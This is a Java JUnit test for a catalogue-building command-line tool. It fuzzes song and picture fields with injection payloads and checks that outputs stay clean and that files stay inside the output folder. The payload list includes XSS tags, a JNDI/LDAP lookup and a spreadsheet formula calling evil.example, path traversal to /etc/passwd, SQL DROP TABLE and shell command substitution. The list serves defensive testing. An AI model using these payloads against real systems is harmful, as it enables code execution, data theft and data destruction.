package org.seesong.it;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.awt.image.BufferedImage;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.stream.Stream;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.seesong.testing.Trials;

/**
 * A catalogue whose ids, titles, artists, lyrics, keywords and paths are made of markup, control
 * characters, formulas and ways out of a folder, through build, info, check, search and its JSON.
 */
class InjectionTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final List<String> PIECES =
      List.of(
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "=HYPERLINK(\"http://evil.example\")",
          "+1",
          "-2",
          "@SUM(A1)",
          "../../etc/passwd",
          "..\\..\\windows",
          "/etc/passwd",
          "%2e%2e%2f",
          "${jndi:ldap://evil.example/a}",
          "{!join from=id}",
          "a\u001b[2Jb",
          "a\u0000b",
          "a\u0007b",
          "line\r\nSet-Cookie: a=b",
          "\u202egnp.exe",
          "\u2028",
          "'; DROP TABLE songs; --",
          "$(touch pwned)",
          "`touch pwned`",
          "snow");

  @TempDir Path folder;

  private String text(SplittableRandom random) {
    StringBuilder text = new StringBuilder();
    for (int i = random.nextInt(3); i >= 0; i--) {
      text.append(PIECES.get(random.nextInt(PIECES.size())));
    }
    return text.toString();
  }

  private List<Path> files() throws IOException {
    try (Stream<Path> files = Files.walk(folder)) {
      return files.filter(Files::isRegularFile).sorted().toList();
    }
  }

  /** Builds and searches; what it says holds no control characters and no file lies elsewhere. */
  private void pass(SplittableRandom random, int round) throws IOException {
    Path here = Files.createDirectories(folder.resolve("catalogue" + round + "/here"));
    BufferedImage image = new BufferedImage(20, 15, BufferedImage.TYPE_INT_RGB);
    image.setRGB(3, 3, random.nextInt());
    ImageIO.write(image, "png", here.resolve("a.png").toFile());
    List<String> songs = new ArrayList<>();
    for (int i = 0; i < 8; i++) {
      Map<String, Object> song = new LinkedHashMap<>();
      song.put("id", i + text(random));
      song.put("title", text(random));
      song.put("artist", text(random));
      song.put("lyrics", "snow " + text(random) + "\nsnow");
      song.put("mood", text(random));
      songs.add(JSON.writeValueAsString(song));
    }
    songs.add("{\"id\":\"good\",\"title\":\"snow\"}");
    Files.write(here.resolve("songs.jsonl"), songs);
    List<String> pictures = new ArrayList<>();
    pictures.add("{\"path\":\"a.png\",\"id\":\"good\",\"keywords\":[\"snow\"]}");
    for (int i = 0; i < 4; i++) {
      pictures.add(
          JSON.writeValueAsString(
              Map.of("path", text(random), "id", i + text(random), "keywords", List.of("snow"))));
    }
    for (int i = 0; i < 4; i++) {
      pictures.add(
          JSON.writeValueAsString(
              Map.of("path", "a.png", "id", "p" + i + text(random), "keywords", text(random))));
    }
    Files.write(here.resolve("pictures.jsonl"), pictures);
    List<Path> before = files();
    Path out = here.resolve("index");
    CommandRun build =
        CommandRun.of(
            "build",
            "--songs",
            here.resolve("songs.jsonl"),
            "--pictures",
            here.resolve("pictures.jsonl"),
            "--encoder",
            "descriptor",
            "--segmenter",
            "unicode",
            "--text-encoder",
            "none",
            "--max-left-out",
            "1",
            "--out",
            out);
    String what = "seed " + Trials.seed() + ", round " + round;
    assertThat(build.code()).as(what + build.log()).isIn(0, 3);
    assertClean(what, build);
    assertClean(what, CommandRun.of("info", out));
    assertClean(what, CommandRun.of("check", out));
    assertClean(what, CommandRun.of("search", out, here.resolve("a.png")));
    CommandRun json = CommandRun.of("search", out, here.resolve("a.png"), "--json");
    assertThat(json.code()).as(what + json.log()).isZero();
    assertClean(what, json);
    JsonNode answer = JSON.readTree(json.data());
    assertThat(answer.get("songs").findValuesAsText("id")).as(what).contains("good");
    for (String line : Files.readAllLines(out.resolve("keywords.csv"), StandardCharsets.UTF_8)) {
      assertThat(line).as(what).doesNotContainPattern("(^|,)\"?[=+@-]");
    }
    for (String line : Files.readAllLines(out.resolve("problems.txt"), StandardCharsets.UTF_8)) {
      assertThat(line).as(what).doesNotContainPattern("[\\p{Cntrl}&&[^\\t]]");
    }
    List<Path> after = new ArrayList<>(files());
    after.removeAll(before);
    assertThat(after).as(what).isNotEmpty().allMatch(file -> file.startsWith(out));
  }

  private static void assertClean(String what, CommandRun run) {
    for (String said : List.of(run.data(), run.log())) {
      assertThat(said).as(what).doesNotContainPattern("[\\p{Cntrl}&&[^\\n\\t]]");
      assertThat(said).as(what).doesNotContain("\n\tat ");
    }
  }

  private void passes(int rounds) throws IOException {
    SplittableRandom random = new SplittableRandom(Trials.seed());
    for (int round = 0; round < rounds; round++) {
      pass(random, round);
    }
  }

  @Test
  void markupAndPathsStayData() throws IOException {
    passes(Trials.count(3));
  }

  @Test
  @Tag("slow")
  void inManyCatalogues() throws IOException {
    passes(Trials.count(200));
  }
}
